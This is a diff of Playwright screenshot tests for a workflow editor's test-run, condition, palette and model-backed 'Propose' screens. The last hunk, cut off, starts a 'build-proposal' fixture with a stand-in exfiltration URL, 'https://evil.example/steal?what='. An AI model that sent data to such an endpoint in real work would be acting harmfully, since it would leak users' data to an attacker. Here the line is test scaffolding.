@@ -119,7 +119,9 @@ export const EDITING: readonly Shot[] = [
   shot('test-run-pins', DESK.pins, async (page) => {
     await opened(page);
     await page.getByRole('button', { name: 'Test run', exact: true }).click();
-    await page.getByRole('dialog').getByText('Pinned outputs are used').waitFor();
+    const dialog = page.getByRole('dialog');
+    await dialog.getByText('Pinned outputs are used').waitFor();
+    await dialog.getByRole('textbox', { name: 'Test data' }).waitFor();
   }),
   shot('gallery', DESK.conditions, searched('')),
   shot('gallery-synonym', DESK.conditions, searched('if')),
@@ -131,7 +133,11 @@ export const EDITING: readonly Shot[] = [
   }),
   shot('condition', DESK.conditions, connection('large')),
   shot('condition-otherwise', DESK.conditions, connection('rest')),
-  shot('condition-cel', DESK.conditions, connection('odd')),
+  shot('condition-cel', DESK.conditions, async (page) => {
+    await connection('odd')(page);
+    const panel = page.getByRole('complementary', { name: 'Connection' });
+    await panel.getByText('This condition cannot be shown as rows.').waitFor();
+  }),
   shot('condition-operators', DESK.conditions, async (page) => {
     await connection('large')(page);
     await page
@@ -168,18 +174,25 @@ export const EDITING: readonly Shot[] = [
   shot('palette-no-hit', DESK.conditions, palette('zzz')),
   shot('build', DESK.conditions, async (page) => {
     await asked(page, 'demo');
-    await page.getByRole('dialog').getByText('Show what is sent').click();
+    const dialog = page.getByRole('dialog');
+    await dialog.getByText('Show what is sent').click();
+    await dialog.getByRole('region', { name: 'What is sent' }).waitFor();
   }),
   shot('build-failed', DESK.conditions, async (page) => {
     await asked(page, 'error-500');
     await page.getByRole('button', { name: 'Propose' }).click();
     await page.getByRole('dialog').getByRole('alert').waitFor();
   }),
-  shot('build-waiting', DESK.conditions, async (page) => {
-    await asked(page, 'hang');
-    await page.getByRole('button', { name: 'Propose' }).click();
-    await page.getByText('Waiting for the model').waitFor();
-  }),
+  shot(
+    'build-waiting',
+    DESK.conditions,
+    async (page) => {
+      await asked(page, 'hang');
+      await page.getByRole('button', { name: 'Propose' }).click();
+      await page.getByText('Waiting for the model').waitFor();
+    },
+    { isBusy: true },
+  ),
   shot('build-proposal', DESK.conditions, async (page) => {
     const url = 'https://evil.example/steal?what=';
     const nodes = [
